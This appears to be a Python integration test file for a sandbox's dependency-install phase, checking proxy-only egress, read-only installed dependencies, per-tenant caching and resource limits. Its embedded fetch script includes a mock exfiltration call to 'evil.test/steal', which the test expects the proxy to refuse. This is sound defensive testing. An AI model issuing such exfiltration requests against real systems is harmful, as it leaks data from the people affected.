"""The prepare phase in the real sandbox: the proxy as its only way out, what reaches the
tests, the per-tenant cache, its limits and its failure messages."""

from __future__ import annotations

import uuid
from pathlib import Path

from app.prepare import Prepared, PreparePlan, PrepareSettings, PrepareStep, prepare
from app.prepare.egress import EgressRules
from app.sandbox import SandboxLimits, run_tests
from tests.integration.prepare.registry import http_registry
from tests.integration.sandbox.repos import PYTEST, policy, write_repo

TENANT_A, TENANT_B = str(uuid.uuid4()), str(uuid.uuid4())

FETCH = """
import json, os, socket, sys, urllib.request, urllib.error
out = {}
try:
    out["pkg"] = urllib.request.urlopen("http://registry.test:8080/pkg", timeout=10).read().decode()
except Exception as exc:
    out["pkg"] = repr(exc)
try:
    urllib.request.urlopen("http://evil.test/steal?data=x", timeout=10)
    out["evil"] = "reached"
except urllib.error.HTTPError as exc:
    out["evil"] = exc.code
try:
    socket.create_connection(("127.0.0.1", 6379), 3)
    out["redis"] = "reached"
except OSError as exc:
    out["redis"] = str(exc)
try:
    socket.getaddrinfo("pypi.org", 443)
    out["dns"] = "resolved"
except OSError as exc:
    out["dns"] = str(exc)
open("/deps/pkg.txt", "w").write(out["pkg"])
print(json.dumps(out))
"""

READS_DEPS = """
import os
from pathlib import Path

def test_installed_tree_is_there_read_only():
    assert Path("/deps/pkg.txt").read_text() == "package bytes"
    assert "HTTPS_PROXY" not in os.environ
    try:
        Path("/deps/new").write_text("x")
    except OSError as exc:
        assert "Read-only file system" in str(exc)
    else:
        raise AssertionError("the installed tree is writable by the tests")
"""


def settings(tmp_path: Path, port: int, *, cap: int = 10**9, **limits: float) -> PrepareSettings:
    values: dict[str, float] = {"wall_seconds": 60, "cpu_seconds": 60, "processes": 64}
    values.update(limits)
    return PrepareSettings(
        rules=EgressRules.from_settings(
            ["registry.test:8080"], [f"registry.test:8080=127.0.0.1:{port}"]
        ),
        cache_root=tmp_path / "cache",
        cache_cap_bytes=cap,
        # int and float fields by name: no annotation of **values says which is which
        limits=SandboxLimits(**values),  # type: ignore[arg-type]
    )


def fetch_plan() -> PreparePlan:
    """Cacheable: installs from `lock.txt`, as a lockfile-driven install would."""
    return PreparePlan((PrepareStep("pip", ("python fetch.py",), ("lock.txt",)),))


def repo_with(tmp_path: Path, name: str = "repo", lock: str = "pkg==1\n") -> Path:
    return write_repo(
        tmp_path / name,
        {"fetch.py": FETCH, "lock.txt": lock, "tests/test_deps.py": READS_DEPS},
    )


async def test_the_proxy_is_the_only_way_out_and_the_tests_see_the_result(
    tmp_path: Path,
) -> None:
    repo = repo_with(tmp_path)
    async with http_registry({"/pkg": b"package bytes"}) as (port, seen):
        done = await prepare(
            repo,
            fetch_plan(),
            settings(tmp_path, port),
            policy(),
            tenant=TENANT_A,
            area=tmp_path / "area",
            toolchain="test",
        )
    assert done.failure is None, done.failure
    out = done.results[0].output.text
    assert '"pkg": "package bytes"' in out, out
    assert '"evil": 403' in out  # refused by the proxy, not merely unresolvable
    assert "Connection refused" in out  # 127.0.0.1 is the sandbox's own loopback
    assert '"dns": "resolved"' not in out  # no DNS inside: only the proxy resolves
    assert seen == ["GET /pkg HTTP/1.1"]
    detail = done.detail()
    assert detail["from"] == ["registry.test:8080"]
    assert detail["refused"] == ["evil.test:80 (not an allowed registry)"]
    assert detail["cache"] == "stored"
    assert done.results[0].network == "egress"

    run = await run_tests(repo, PYTEST, policy=done.apply(policy()))
    assert run.passed, run.tests.output.text
    assert run.tests.network == "none"
    assert not (repo / "node_modules").exists() and not (repo / "deps").exists()
    done.release()


async def test_a_second_run_hits_the_cache_and_no_tenant_sees_another(tmp_path: Path) -> None:
    repo = repo_with(tmp_path)
    async with http_registry({"/pkg": b"package bytes"}) as (port, seen):
        config = settings(tmp_path, port)

        async def run(tenant: str, area: str) -> Prepared:
            return await prepare(
                repo,
                fetch_plan(),
                config,
                policy(),
                tenant=tenant,
                area=tmp_path / area,
                toolchain="test",
            )

        cold = await run(TENANT_A, "a1")
        warm = await run(TENANT_A, "a2")
        other = await run(TENANT_B, "b1")
    assert [cold.cache_hit, warm.cache_hit, other.cache_hit] == [False, True, False]
    assert len(seen) == 2  # tenant A downloaded once, tenant B once
    assert warm.results == () and warm.detail()["cache"] == "hit"
    assert warm.deps == cold.deps and other.deps != cold.deps

    probe = write_repo(
        tmp_path / "probe",
        {
            "tests/test_probe.py": f"""
            import os

            def test_only_its_own_tenant():
                assert not os.path.exists({str(tmp_path / "cache")!r})
                assert not os.path.exists({str(cold.deps)!r})
                assert sorted(os.listdir("/deps")) == ["pkg.txt"]
            """
        },
    )
    seen_by_b = await run_tests(probe, PYTEST, policy=other.apply(policy()))
    assert seen_by_b.passed, seen_by_b.tests.output.text
    for done in (cold, warm, other):
        done.release()


async def test_a_changed_lockfile_installs_afresh(tmp_path: Path) -> None:
    async with http_registry({"/pkg": b"package bytes"}) as (port, seen):
        config = settings(tmp_path, port)
        first = await prepare(
            repo_with(tmp_path, "one"),
            fetch_plan(),
            config,
            policy(),
            tenant=TENANT_A,
            area=tmp_path / "a1",
            toolchain="test",
        )
        second = await prepare(
            repo_with(tmp_path, "two", lock="pkg==2\n"),
            fetch_plan(),
            config,
            policy(),
            tenant=TENANT_A,
            area=tmp_path / "a2",
            toolchain="test",
        )
    assert not second.cache_hit and len(seen) == 2
    first.release()
    second.release()


async def test_a_failed_install_says_what_failed_with_the_tail_of_its_output(
    tmp_path: Path,
) -> None:
    repo = write_repo(tmp_path / "repo", {"composer.json": "{}"})
    plan = PreparePlan(
        (
            PrepareStep(
                "composer",
                ("echo 'Your requirements could not be resolved' >&2; exit 2",),
                ("composer.json",),
            ),
        )
    )
    done = await prepare(
        repo,
        plan,
        settings(tmp_path, 1),
        policy(),
        tenant=TENANT_A,
        area=tmp_path / "area",
        toolchain="test",
    )
    assert done.failure is not None
    assert "failed (exit 2)" in done.failure
    assert done.failure.endswith("Your requirements could not be resolved")
    assert done.deps is None
    tenant_dir = tmp_path / "cache" / f"tenant-{TENANT_A}"
    assert not tenant_dir.exists() or not [p for p in tenant_dir.iterdir() if p.is_dir()]


async def test_the_prepare_phase_has_its_own_limits(tmp_path: Path) -> None:
    repo = write_repo(tmp_path / "repo", {"lock.txt": "x\n"})
    slow = PreparePlan((PrepareStep("npm", ("sleep 30",), ("lock.txt",)),))
    done = await prepare(
        repo,
        slow,
        settings(tmp_path, 1, wall_seconds=2),
        policy(),
        tenant=TENANT_A,
        area=tmp_path / "slow",
        toolchain="test",
    )
    assert done.failure is not None and "wall-clock limit" in done.failure

    big = PreparePlan(
        (PrepareStep("npm", ("head -c 64000000 /dev/zero > /deps/blob",), ("lock.txt",)),)
    )
    done = await prepare(
        repo,
        big,
        settings(tmp_path, 1, disk_bytes=16 * 1024**2),
        policy(),
        tenant=TENANT_A,
        area=tmp_path / "big",
        toolchain="test",
    )
    assert done.failure is not None and "No space left on device" in done.failure
